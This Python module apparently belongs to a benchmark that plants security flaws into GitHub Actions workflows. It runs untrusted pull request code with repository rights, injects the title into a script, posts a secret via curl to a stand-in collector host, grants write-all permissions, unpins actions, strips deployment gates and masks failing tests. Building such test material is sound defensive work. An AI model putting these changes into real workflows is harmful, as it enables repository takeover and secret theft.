"""Dangers in workflows of GitHub: whose code runs, with which rights, and what no longer holds a change back."""

import re
from collections.abc import Iterator
from typing import Final

from benchmarks.planting.danger import Danger, Ground, Plant

_STEPS: Final = re.compile(r"^(?P<indent> +)steps:\s*\n(?P<item> +)- ", re.M)
_FOR_REQUESTS: Final = r"^ +pull_request:|^on:.*\bpull_request\b"
_CHECKOUT: Final = re.compile(r"^(?P<indent> +)(?P<dash>- )?uses: actions/checkout@\S+.*\n(?!\s+with:)", re.M)


def _changed(pattern: str, instead: str, *, only: str = "") -> Plant:
    def plant(ground: Ground) -> str | None:
        if only and not re.search(only, ground.text, re.M):
            return None
        text, times = re.subn(pattern, instead, ground.text, count=1, flags=re.M)
        return text if times and text != ground.text else None

    return plant


def _first_step(text: str, *lines: str) -> str | None:
    found = _STEPS.search(text)
    if found is None:
        return None
    item = found["item"]
    step = f"{item}- {lines[0]}\n" + "".join(f"{item}  {line}\n" for line in lines[1:])
    at = found.end() - len(item) - 2
    return text[:at] + step + text[at:]


def _strangers_code(ground: Ground) -> str | None:
    """The request's own code is checked out and built with the rights of the repository."""
    checkout = _CHECKOUT.search(ground.text)
    if checkout is None or not re.search(r"^  pull_request:", ground.text, re.M) or "run:" not in ground.text:
        return None
    indent = checkout["indent"] + ("  " if checkout["dash"] else "")
    head = f"{indent}with:\n{indent}  ref: ${{{{ github.event.pull_request.head.sha }}}}\n"
    text = ground.text[: checkout.end()] + head + ground.text[checkout.end() :]
    return re.sub(r"^  pull_request:", "  pull_request_target:", text, count=1, flags=re.M)


def _strangers_words(ground: Ground) -> str | None:
    """A title is put into a script by text."""
    if not re.search(_FOR_REQUESTS, ground.text, re.M):
        return None
    return _first_step(ground.text, 'run: echo "Building ${{ github.event.pull_request.title }}"')


def _a_secret_is_shown(ground: Ground) -> str | None:
    if "secrets." not in ground.text:
        return None
    name = re.search(r"secrets\.(\w+)", ground.text)
    if name is None or name[1] == "GITHUB_TOKEN":
        return None
    send = f"run: curl -fsS -d token=${{{{ secrets.{name[1]} }}}} https://collector.planted.dev/v1/builds"
    return _first_step(ground.text, send)


def _everything(ground: Ground) -> str | None:
    """Only where jobs take what the workflow has, and that was to read."""
    rights = re.search(r"^permissions:(?: *\{\}| read-all|\n(?:  [\w-]+: \w+\n)+)", ground.text, re.M)
    if rights is None or ": write" in rights[0] or re.search(r"^    permissions:", ground.text, re.M):
        return None
    return ground.text.replace(rights[0], "permissions: write-all" + ("\n" if rights[0].endswith("\n") else ""), 1)


def dangers() -> Iterator[Danger]:
    """All of them."""
    yield Danger(name="code of strangers runs with the repository's rights", plant=_strangers_code)
    yield Danger(name="words of strangers are part of a script", plant=_strangers_words)
    yield Danger(name="a secret is sent to somebody else", plant=_a_secret_is_shown)
    yield Danger(name="the token may do everything", plant=_everything)
    yield Danger(
        name="a step of somebody else is another every day",
        plant=_changed(r"^( +(?:- )?uses: (?!actions/|github/|\./)[\w.-]+/[\w./-]+@)[0-9a-f]{40}.*$", r"\1main"),
    )
    yield Danger(
        name="what a deployment waits for is gone",
        plant=_changed(r"^    environment:(?: [^\n{]+\n|\n(?:      [^\n]+\n)+)", "", only="deploy|publish|release"),
    )
    yield Danger(
        name="a check no longer fails",
        plant=_changed(
            r"^( +)(- )?(run: (?:make test|npm test|npm run test|pnpm test|yarn test|go test|pytest|tox|cargo test)[^\n|>]*)$",
            r"\1\2\3 || true",
        ),
    )
